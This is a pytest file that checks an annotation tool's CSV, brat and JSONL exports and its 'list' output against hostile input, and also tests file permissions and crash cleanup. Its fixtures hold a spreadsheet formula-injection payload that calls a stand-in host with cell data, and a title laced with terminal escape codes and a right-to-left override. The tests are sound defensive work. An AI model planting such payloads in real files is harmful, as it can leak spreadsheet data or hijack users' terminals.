"""What exports and `list` put on disk and on the terminal is safe, through the real command.

A CSV cell never runs as a formula; a title never drives the terminal;
export files get the mode the umask gives; a killed export's leftovers go at
the next export; a brat folder is published all or nothing.
"""

from __future__ import annotations

import csv
import json
import os
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.commands import annotator
from tests.conftest import CORPUS, ROOT, SEED_GOLD

MARK = ".annotator-partial."
TEXT = (
    "La température est tombée à -5 degrés à Lyon, selon Météo-France, "
    "et la hausse du chômage atteint +3 points."
)
TITLE = "\x1b]0;pwned\x07Météo \x1b[2J\x9b31m à Lyon \u202eelbaT"


run = annotator


def hostile_article(tmp_path: Path) -> Path:
    """alice's finished article: a hostile title, FIGURE spans and units that look like formulas."""
    minus, plus = TEXT.index("-5 degrés"), TEXT.index("+3 points")
    record = {
        "title": TITLE,
        "text": TEXT,
        "spans": [
            {"start": minus, "end": minus + 9, "label": "FIGURE",
             "attrs": {"value": -5, "unit": '=HYPERLINK("http://x.example/?"&A1)'}},
            {"start": plus, "end": plus + 9, "label": "FIGURE",
             "attrs": {"value": 3, "unit": "@SUM(A1:A9)"}},
        ],
    }  # fmt: skip
    path = tmp_path / "hostile.jsonl"
    path.write_text(json.dumps(record, ensure_ascii=False) + "\n", encoding="utf-8")
    db = tmp_path / "hostile.db"
    result = run("import", path, "--annotator", "alice", "--db", db)
    assert result.returncode == 0, result.stderr
    return db


def test_figures_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    db = hostile_article(tmp_path)
    out = tmp_path / "figures.csv"

    result = run("export", "--db", db, "--format", "csv", "--source", "alice", "--out", out)

    assert result.returncode == 0, result.stderr
    with out.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [(r["text"], r["value"], r["unit"]) for r in rows] == [
        ("'-5 degrés", "-5", "'=HYPERLINK(\"http://x.example/?\"&A1)"),
        ("'+3 points", "3", "'@SUM(A1:A9)"),
    ]  # text cells defused; the value -5 is a number and stays one
    for row in rows:
        for column, cell in row.items():
            if column != "value":
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)


def test_list_shows_terminal_codes_in_titles_as_escapes(tmp_path: Path) -> None:
    db = hostile_article(tmp_path)

    table = run("list", "--db", db)
    as_json = run("list", "--db", db, "--json")

    assert table.returncode == 0, table.stderr
    assert "\x1b" not in table.stdout and "\x07" not in table.stdout and "\x9b" not in table.stdout
    assert "\u202e" not in table.stdout
    assert "\\x1b]0;pwned\\x07Météo \\x1b[2J\\x9b31m à Lyon \\u202eelbaT" in table.stdout
    assert json.loads(as_json.stdout)[0]["title"] == TITLE  # JSON escapes them itself


@pytest.mark.parametrize("mask", [0o022, 0o027])
def test_export_files_get_the_mode_the_umask_gives(tmp_path: Path, mask: int) -> None:
    db = tmp_path / "team.db"
    assert run("import", SEED_GOLD, "--annotator", "alice", "--db", db).returncode == 0
    out = tmp_path / "out"

    for fmt, target in (("jsonl", out / "a.jsonl"), ("conll", out / "a.conll"),
                        ("csv", out / "a.csv"), ("brat", out / "brat")):  # fmt: skip
        result = run("export", "--db", db, "--format", fmt, "--source", "alice",
                     "--out", target, preexec=lambda: os.umask(mask))  # fmt: skip
        assert result.returncode == 0, result.stderr

    files = [p for p in out.rglob("*") if p.is_file()]
    assert len(files) > 8
    for path in files:
        assert stat.S_IMODE(path.stat().st_mode) == 0o666 & ~mask, path
    assert stat.S_IMODE((out / "brat").stat().st_mode) == 0o777 & ~mask


def dead_pid() -> int:
    """The id of a process that ran and is gone."""
    done = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                          capture_output=True, text=True, check=True)  # fmt: skip
    return int(done.stdout)


def many_done_articles(tmp_path: Path, n: int) -> Path:
    """`n` articles of real French text, alice's and done."""
    text = (CORPUS / sorted(os.listdir(CORPUS))[0]).read_text(encoding="utf-8")
    path = tmp_path / "many.jsonl"
    with path.open("w", encoding="utf-8") as file:
        for i in range(n):
            record = {"text": f"Dépêche {i}.\n{text}", "spans": [{"start": 0, "end": 7,
                      "label": "MISC"}]}  # fmt: skip
            file.write(json.dumps(record, ensure_ascii=False) + "\n")
    db = tmp_path / "many.db"
    result = run("import", path, "--annotator", "alice", "--db", db)
    assert result.returncode == 0, result.stderr
    return db


def test_a_killed_exports_leftovers_go_at_the_next_export_and_only_ours(tmp_path: Path) -> None:
    db = many_done_articles(tmp_path, 3000)
    out = tmp_path / "brat"
    process = subprocess.Popen(
        [sys.executable, "-m", "annotator", "export", "--db", str(db), "--format", "brat",
         "--source", "alice", "--out", str(out)],
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    deadline = time.monotonic() + 120
    staging: list[Path] = []
    while time.monotonic() < deadline and process.poll() is None:
        staging = [p for p in tmp_path.glob(f".brat{MARK}*") if len(list(p.iterdir())) > 20]
        if staging:
            break
        time.sleep(0.02)
    assert staging, "the export never wrote its staging folder"
    process.send_signal(signal.SIGKILL)
    process.wait()
    assert not out.exists() and staging[0].exists()  # kill -9 left it behind
    alive = tmp_path / f".brat{MARK}{os.getpid()}.running"  # an export running now
    alive.mkdir()
    foreign = tmp_path / ".brat.partial"  # not ours
    foreign.mkdir()
    killed_file = tmp_path / f".a.jsonl{MARK}{dead_pid()}.x1y2z3"
    killed_file.write_text("half a file", encoding="utf-8")

    for fmt, target in (("brat", out), ("jsonl", tmp_path / "a.jsonl")):
        result = run("export", "--db", db, "--format", fmt, "--source", "alice", "--out", target)
        assert result.returncode == 0, result.stderr

    assert not staging[0].exists() and not killed_file.exists()
    assert alive.exists() and foreign.exists()
    assert len(list(out.glob("*.ann"))) == 3000


def test_a_folder_left_aside_by_a_kill_between_the_two_renames_is_put_back(
    tmp_path: Path,
) -> None:
    db = tmp_path / "team.db"
    assert run("import", SEED_GOLD, "--annotator", "alice", "--db", db).returncode == 0
    out = tmp_path / "brat"
    assert run("export", "--db", db, "--format", "brat", "--source", "alice",
               "--out", out).returncode == 0  # fmt: skip
    (out / "notes.txt").write_text("the user's notes\n", encoding="utf-8")
    os.rename(out, tmp_path / f".brat{MARK}{dead_pid()}.old")  # killed right after this

    result = run("export", "--db", db, "--format", "brat", "--source", "alice", "--out", out)

    assert result.returncode == 0, result.stderr
    assert (out / "notes.txt").read_text(encoding="utf-8") == "the user's notes\n"
    assert len(list(out.glob("*.ann"))) == 2
    assert [p.name for p in tmp_path.iterdir() if MARK in p.name] == []


def test_publishing_into_an_existing_brat_folder_is_all_or_nothing(tmp_path: Path) -> None:
    """Once failed half-way (a name taken by a folder): the first articles new, the rest old."""
    db = tmp_path / "team.db"
    assert run("import", SEED_GOLD, "--annotator", "alice", "--db", db).returncode == 0
    records = [json.loads(line) for line in SEED_GOLD.read_text(encoding="utf-8").splitlines()]
    bob = tmp_path / "bob.jsonl"  # bob kept only the first span of each article
    bob.write_text("".join(json.dumps({**r, "spans": r["spans"][:1]}, ensure_ascii=False) + "\n"
                           for r in records), encoding="utf-8")  # fmt: skip
    assert run("import", bob, "--annotator", "bob", "--db", db).returncode == 0
    out = tmp_path / "brat"
    assert run("export", "--db", db, "--format", "brat", "--source", "alice",
               "--out", out).returncode == 0  # fmt: skip
    first, second = sorted(p.name for p in out.glob("*.ann"))
    (out / "notes.txt").write_text("the user's notes\n", encoding="utf-8")
    (out / second).unlink()
    (out / second).mkdir()  # something in the way of one file

    result = run("export", "--db", db, "--format", "brat", "--source", "bob", "--out", out)

    assert result.returncode == 0, result.stderr
    for name in (first, second):  # every article is bob's: none left as alice's
        lines = (out / name).read_text(encoding="utf-8").splitlines()
        assert [line.split("\t")[0] for line in lines if line.startswith("T")] == ["T1"], name
    reviews = (out / "articles.jsonl").read_text(encoding="utf-8").splitlines()
    assert {json.loads(line)["source"] for line in reviews} == {"bob"}
    assert (out / "notes.txt").read_text(encoding="utf-8") == "the user's notes\n"
    assert [p.name for p in tmp_path.iterdir() if MARK in p.name] == []
